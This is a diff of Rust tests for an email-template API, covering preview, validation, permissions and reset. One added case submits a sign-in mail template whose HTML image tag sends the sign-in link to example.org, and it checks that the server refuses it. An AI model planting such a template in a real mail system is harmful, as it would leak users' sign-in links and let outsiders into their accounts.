@@ -271,12 +271,12 @@ async fn what_cannot_be_right_is_refused_by_its_field() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_wording_is_previewed_saved_shown_and_reset() {
     let house = House::new(LiveLimits::default()).await;
-    let path = "/v1/templates/sign_in_link/en";
-    let own = json!({"subject": "In, {{ name }}", "text": "{{ link }}", "html": "<a href=\"{{ link }}\">in</a>"});
+    let path = "/v1/templates/card_for_you/en";
+    let own = json!({"subject": "Card of {{ card_name }}", "text": "{{ link }} {{ card_name }}", "html": "<a href=\"{{ link }}\">{{ card_name }}</a>"});
     let preview = house.ask("read-1", "POST", &format!("{path}/preview"), Some(own.clone())).await.json();
-    assert_eq!(preview["subject"], "In, Ada");
+    assert_eq!(preview["subject"], "Card of Ada Lovelace");
     assert!(preview["html"].as_str().unwrap().starts_with("<!doctype html>"));
-    let wrong = json!({"subject": "In", "text": "no link", "html": "{{ link }}"});
+    let wrong = json!({"subject": "In {{ card_name }}", "text": "no link", "html": "{{ link }} {{ card_name }}"});
     assert_eq!(house.ask("read-1", "POST", &format!("{path}/preview"), Some(wrong.clone())).await.field(), "text");
     assert_eq!(house.ask("all-1", "PUT", path, Some(wrong)).await.field(), "text");
     assert_eq!(house.ask("read-1", "PUT", path, Some(own.clone())).await.status, StatusCode::FORBIDDEN);
@@ -287,6 +287,9 @@ async fn a_wording_is_previewed_saved_shown_and_reset() {
     assert_eq!(house.ask("read-1", "GET", path, None).await.json()["version"], 0);
     assert_eq!(house.ask("all-1", "PUT", "/v1/templates/nothing/en", Some(own.clone())).await.status, StatusCode::NOT_FOUND);
     assert_eq!(house.ask("all-1", "PUT", "/v1/templates/invitation/xx", Some(own)).await.status, StatusCode::NOT_FOUND);
+    // Whoever words a mail with a sign-in link could have the link sent to themselves.
+    let tempting = json!({"subject": "In", "text": "{{ link }}", "html": "<img src=\"https://example.org/?{{ link }}\">"});
+    assert_eq!(house.ask("all-1", "PUT", "/v1/templates/sign_in_link/en", Some(tempting)).await.field(), "key");
     let all = house.ask("read-1", "GET", "/v1/templates", None).await.json();
     assert_eq!(all.as_array().unwrap().len(), 5);
 }
